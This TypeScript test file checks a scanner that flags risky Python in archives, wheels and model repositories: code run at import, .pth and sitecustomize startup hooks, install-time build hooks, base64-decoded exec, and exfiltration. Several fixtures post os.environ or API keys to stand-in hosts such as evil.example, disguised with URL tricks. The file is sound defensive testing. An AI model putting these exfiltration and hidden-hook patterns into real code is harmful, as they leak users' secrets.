import assert from "node:assert/strict";
import { Buffer } from "node:buffer";
import { readFile } from "node:fs/promises";
import { test } from "node:test";
import { loadRules } from "../../rules/rules.ts";
import { scanSource } from "../../scan/scan_source.ts";
import { bytesSource } from "../../sources/memory.ts";
import type { FileReport } from "../../core/types.ts";
import { pythonSourceFormat } from "./mod.ts";
import { run, sampleOf } from "../testing/scan.ts";
import { buildZip, type Entry } from "../testing/zip.ts";

const rules = loadRules();
const WHEEL: Entry = { name: "tiny-1.0.dist-info/WHEEL", data: "Wheel-Version: 1.0\n" };

function bytes(text: string): Uint8Array {
  return new Uint8Array(Buffer.from(text));
}

async function scanZip(entries: readonly Entry[], name = "bundle.zip"): Promise<FileReport> {
  return await scanSource(bytesSource(name, buildZip(entries)), { rules });
}

function reported(report: FileReport): string[] {
  return report.findings.filter(({ safety }) => safety !== "innocuous")
    .map(({ ruleId, severity, location }) => `${severity} ${ruleId} ${location.parts.join(":")}`);
}

test("a module in any archive is judged by what it runs at import, and by nothing else", async () => {
  const run = "import os\nos.system('echo hi')\n";
  const quiet = "import os\n\ndef later():\n    os.system('echo hi')\n";
  const report = await scanZip([{ name: "a/run.py", data: run }, { name: "b.py", data: quiet }]);
  assert.deepEqual(reported(report), ["medium python-import-call a/run.py"]);
  assert.equal(report.verdict, "suspicious");
  assert.equal(report.findings[0]?.offset, 10);
});

test("a function that is only handed over runs when it is handed to a thread", async () => {
  const work = "import os, threading\ndef work():\n    os.popen('echo')\n";
  const [handed, started] = [
    `${work}table = dict(work=work)\n`,
    `${work}threading.Thread(target=work).start()\n`,
  ];
  assert.deepEqual(reported(await scanZip([{ name: "a.py", data: handed }])), []);
  assert.deepEqual(reported(await scanZip([{ name: "a.py", data: started }])), [
    "medium python-import-call a.py",
  ]);
});

test("of asyncio what starts a process is an attack with what was decoded, a loop that is set is none", async () => {
  const head = "import asyncio, base64\nit = base64.b64decode('ZWNobw==')\n";
  const [set, started] = [
    `${head}asyncio.set_event_loop(it)\n`,
    `${head}asyncio.run(asyncio.create_subprocess_shell(it))\n`,
  ];
  assert.deepEqual(reported(await scanZip([{ name: "a.py", data: set }])), []);
  assert.deepEqual(reported(await scanZip([{ name: "a.py", data: started }])), [
    "critical python-attack a.py",
  ]);
});

test("a decorator runs where it stands", async () => {
  const data =
    "import os\ndef deco(f):\n    os.system('echo')\n    return f\n@deco\ndef g(): pass\n";
  assert.deepEqual(reported(await scanZip([{ name: "a.py", data }])), [
    "medium python-import-call a.py",
  ]);
});

test("harmless calls before a harmful one of the same name do not hide it", async () => {
  const many = Array.from({ length: 3000 }, (_, at) => `exec('x = ${at}')`).join("\n");
  const data = `import base64\n${many}\nexec(base64.b64decode('cHJpbnQoMSk='))\n`;
  assert.deepEqual(reported(await scanZip([{ name: "a.py", data }])), [
    "critical python-attack a.py",
  ]);
});

test("what lies on a disk beside a model is nothing's business here", async () => {
  const source = bytesSource("run.py", bytes("import os\nos.system('echo hi')\n"));
  const report = await scanSource(source, { rules });
  assert.equal(report.verdict, "skipped");
});

test("code that a configuration names is reported once, as the repository's", async () => {
  const report = await scanZip([
    { name: "config.json", data: '{"auto_map": {"AutoModel": "modeling_x.X"}}' },
    { name: "modeling_x.py", data: "import os\nos.system('echo hi')\nclass X: pass\n" },
    { name: "other.py", data: "import os\nos.system('echo hi')\n" },
  ]);
  assert.deepEqual(reported(report), [
    "critical repository-python-call modeling_x.py",
    "medium repository-own-code config.json",
    "medium config-remote-code config.json",
    "medium python-import-call other.py",
  ]);
});

test("TorchScript's sources are no Python modules", async () => {
  const report = await scanZip([
    { name: "m/constants.pkl", data: "\x80\x02).".replaceAll("\x80", "\u0080") },
    { name: "m/code/__torch__.py", data: "os.system('echo hi')\n" },
  ]);
  assert.ok(!reported(report).some((line) => line.includes("python-import-call")));
});

test("lines of a path file that are code are reported, others are not", async () => {
  const data = "/opt/lib\n# import os\nimport os; os.system('echo hi')\n";
  const report = await scanZip([WHEEL, { name: "x.pth", data }]);
  assert.deepEqual(reported(report).sort(), [
    "medium python-import-call x.pth",
    "medium python-startup-code x.pth",
  ]);
  const quiet = await scanZip([WHEEL, { name: "x.pth", data: "/opt/lib\n" }]);
  assert.equal(quiet.verdict, "clean");
});

test("the lines that releases of setuptools install are known, and longer ones are not", async () => {
  const line =
    "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local')" +
    " == 'local'; enabled and __import__('_distutils_hack').add_shim()";
  for (const known of [line, line.replace("'local')", "'stdlib')")]) {
    const report = await scanZip([WHEEL, {
      name: "distutils-precedence.pth",
      data: `${known};\n`,
    }]);
    assert.equal(report.verdict, "clean");
  }
  const longer = await scanZip([WHEEL, {
    name: "distutils-precedence.pth",
    data: `${line}; x()\n`,
  }]);
  assert.deepEqual(reported(longer), ["medium python-startup-code distutils-precedence.pth"]);
});

test("a text under a checkpoint's name that is no path file stays unread", async () => {
  const report = await scanZip([{ name: "weights.pth", data: "nothing of the kind\n" }]);
  assert.equal(report.verdict, "incomplete");
});

test("sitecustomize runs at the start where it is installed, and only there", async () => {
  const module = { name: "sitecustomize.py", data: "x = 1\n" };
  assert.deepEqual(reported(await scanZip([WHEEL, module])), [
    "medium python-startup-code sitecustomize.py",
  ]);
  const deeper = { name: "docs/sitecustomize.py", data: "x = 1\n" };
  assert.deepEqual(reported(await scanZip([WHEEL, deeper])), []);
});

test("setup.py of a source distribution runs its commands", async () => {
  const data = "import os\nclass Install:\n    def run(self):\n        os.system('echo hi')\n";
  assert.deepEqual(reported(await scanZip([{ name: "tiny-1.0/setup.py", data }])), [
    "medium python-import-call tiny-1.0/setup.py",
  ]);
  assert.deepEqual(reported(await scanZip([{ name: "tiny/install.py", data }])), []);
});

test("a command that only a user calls does not run at install, unless something else names it", async () => {
  const text = `import os
from setuptools import setup, Command
class Upload(Command):
    def run(self):
        os.system('echo hi')
setup(name="a", cmdclass={"upload": Upload})
`;
  const found = async (data: string): Promise<string[]> =>
    reported(await scanZip([{ name: "tiny-1.0/setup.py", data }]));
  assert.deepEqual(await found(text), []);
  for (
    const other of [
      text.replace('"upload"', '"install"'),
      text.replace('"upload": Upload', '"upload": Upload, "build_py": Upload'),
      `${text}x = Command.__subclasses__()\n`,
      `${text}Upload(None).run()\n`,
    ]
  ) {
    assert.deepEqual(await found(other), ["medium python-import-call tiny-1.0/setup.py"], other);
  }
});

test("a client that is given a token sends nothing yet, one that is given the environment may", async () => {
  const found = async (given: string): Promise<string[]> =>
    reported(
      await scanZip([{
        name: "a.py",
        data: `import os, requests\ns = requests.Session()\ns.headers.update(${given})\n`,
      }]),
    );
  assert.deepEqual(await found("{'Authorization': 'Bearer ' + os.environ.get('TOKEN', '')}"), []);
  assert.deepEqual(await found("{'Authorization': os.environ['TOKEN']}"), []);
  assert.deepEqual(await found("{'X': str(dict(os.environ))}"), [
    "critical python-exfiltration a.py",
  ]);
});

test("a key goes to the service that it is called after, and to no other", async () => {
  const scan = async (address: string, more = "") =>
    reported(
      await scanZip([{
        name: "a.py",
        data: "import os, requests\n" +
          `requests.post(${address}, headers={"Authorization": f"Bearer {os.environ['OPENAI_API_KEY']}"}${more})\n`,
      }]),
    ).join();
  const own = '"https://api.openai.com/v1/chat/completions"';
  assert.doesNotMatch(await scan(own, ", json={}"), /exfiltration/);
  assert.match(await scan(own, ", data=dict(os.environ)"), /critical python-exfiltration/);
  assert.match(await scan(own, ", data=os.environ['AWS_KEY']"), /critical python-exfiltration/);
  const others = [
    '"https://api.openai.com.evil.example/"',
    '"https://openai.com@evil.example/"',
    '"https://evil.example/?https://api.openai.com"',
    '"http://api.openai.com/"',
    "address",
    '"https://api.openai.com/" + address',
  ];
  for (const other of others) {
    assert.match(await scan(other), /critical python-exfiltration/, other);
  }
});

test("an encoding that hides code makes the module unread", async () => {
  for (const codec of ["unicode_escape", "utf-7", "rot13", "raw-unicode-escape", "x-nobody"]) {
    const report = await scanZip([{
      name: "a.py",
      data: `#!/usr/bin/python\n# coding: ${codec}\n`,
    }]);
    assert.deepEqual(reported(report).filter((line) => line.includes("python")), [
      "medium python-encoding a.py",
    ], codec);
    assert.equal(report.verdict, "incomplete", codec);
  }
  for (
    const codec of ["utf-8", "latin-1", "iso-8859-15", "cp1252", "utf_8", "ascii", "shift_jis"]
  ) {
    const report = await scanZip([{ name: "a.py", data: `# coding: ${codec}\nx = 1\n` }]);
    assert.deepEqual(reported(report), [], codec);
  }
});

test("source that breaks off or is too long is never taken for all of it", async () => {
  const source = "import os\nos.system('echo hi')\n";
  for (let end = 0; end <= source.length; end++) {
    const seen = await run(pythonSourceFormat, bytes(source.slice(0, end)), {
      hint: "python-import",
    });
    assert.equal(seen.error, undefined);
  }
  const long = new Uint8Array(16 * 1024 * 1024 + 1).fill(0x0a);
  const seen = await run(pythonSourceFormat, long, { hint: "python-import" });
  assert.match(seen.error?.message ?? "", /more than 16777216 bytes/);
  const deep = bytes(`import os\n${"lambda: ".repeat(1000)}os.system('x')\n`);
  assert.deepEqual((await run(pythonSourceFormat, deep, { hint: "python-import" })).rules, [
    "python-unread",
  ]);
});

test("only a hint makes it Python source, and bytes with zeros are none", () => {
  const text = bytes("import os\n");
  assert.ok(!pythonSourceFormat.detect(sampleOf(text, { name: "a.py" })));
  assert.ok(pythonSourceFormat.detect(sampleOf(text, { name: "a.py", hint: "python-import" })));
  const zeros = bytes("import os\n\0");
  assert.ok(!pythonSourceFormat.detect(sampleOf(zeros, { name: "a.py", hint: "python-import" })));
});

test("a compiled module is reported where it runs unseen: without a source, or without a look at it", async () => {
  const compiled = (bits: number): string => `\xa7\r\r\n${String.fromCharCode(bits)}\0\0\0\0\0\0\0`;
  const entry = (name: string, bits: number): Entry => ({
    name,
    data: new Uint8Array(Buffer.from(compiled(bits), "latin1")),
  });
  const source: Entry = { name: "a/b.py", data: "x = 1\n" };
  const cached = "a/__pycache__/b.cpython-311.pyc";
  assert.deepEqual(reported(await scanZip([entry("a/b.pyc", 0), WHEEL])), [
    "medium python-compiled a/b.pyc",
  ]);
  assert.deepEqual(reported(await scanZip([source, entry(cached, 1)])), [
    `medium python-compiled ${cached}`,
  ]);
  for (const bits of [0, 3]) {
    assert.deepEqual(reported(await scanZip([source, entry(cached, bits)])), []);
  }
});

test("a package runs at the start of Python like a module of that name", async () => {
  const data = "x = 1\n";
  assert.deepEqual(reported(await scanZip([{ name: "sitecustomize/__init__.py", data }, WHEEL])), [
    "medium python-startup-code sitecustomize/__init__.py",
  ]);
  assert.deepEqual(
    reported(await scanZip([{ name: "a/sitecustomize/__init__.py", data }, WHEEL])),
    [],
  );
});

test("what a project's own build backend does when pip asks it runs at install", async () => {
  const data = "import os\ndef build_wheel(*a):\n    os.system('echo hi')\n";
  assert.deepEqual(reported(await scanZip([{ name: "p-1/backend.py", data }])), [
    "medium python-import-call p-1/backend.py",
  ]);
  // A wheel is not built.
  assert.deepEqual(reported(await scanZip([{ name: "p/backend.py", data }], "p-1.whl")), []);
  const other = data.replace("build_wheel", "build_wheels");
  assert.deepEqual(reported(await scanZip([{ name: "p-1/backend.py", data: other }])), []);
});

test("hooks of hatchling, of PDM and of a backend that is an object run at install", async () => {
  const run = "os.system('echo hi')";
  const sources = {
    hatch:
      `import os\nfrom hatchling.builders.hooks.plugin.interface import BuildHookInterface\nclass H(BuildHookInterface):\n    def initialize(self, version, data):\n        ${run}\n`,
    pdm: `import os\ndef pdm_build_initialize(context):\n    ${run}\n`,
    object:
      `import os\nclass B:\n    def build_wheel(self, folder):\n        ${run}\nbackend = B()\n`,
  };
  for (const [name, data] of Object.entries(sources)) {
    const report = await scanZip([{ name: "a-1/hook.py", data }], "a-1.zip");
    assert.deepEqual(reported(report), ["medium python-import-call a-1/hook.py"], name);
  }
});

test("setup.py may run a Python file of its package, which is judged for itself", async () => {
  const setup =
    "import os\nhere = os.path.dirname(__file__)\nabout = {}\nwith open(os.path.join(here, 'a', 'version.py')) as f:\n    exec(f.read(), about)\n";
  const scan = (data: string) => scanZip([{ name: "a-1/setup.py", data }], "a-1.zip");
  const calls = async (data: string) =>
    reported(await scan(data)).filter((each) => each.includes("import-call"));
  assert.deepEqual(await calls(setup), []);
  for (const other of ["version.txt", "../version.py", "/tmp/version.py"]) {
    assert.equal((await calls(setup.replace("version.py", other))).length, 1, other);
  }
});

test("each module of a wheel that runs a command on a way that no call shows is found", async () => {
  const path = new URL(
    "../../../testdata/python/suspicious/reached-1.0-py3-none-any.whl",
    import.meta.url,
  );
  const bytes = await readFile(path);
  const report = await scanSource(bytesSource("reached-1.0-py3-none-any.whl", bytes), { rules });
  const names = new Set(Buffer.from(bytes).toString("latin1").match(/reached\/\w+\.py/gu));
  const found = new Set(
    report.findings.filter(({ severity }) => severity !== "info")
      .map(({ location }) => location.parts[0]),
  );
  assert.deepEqual([...names].filter((name) => !found.has(name)), []);
  assert.ok(names.size > 30);
});
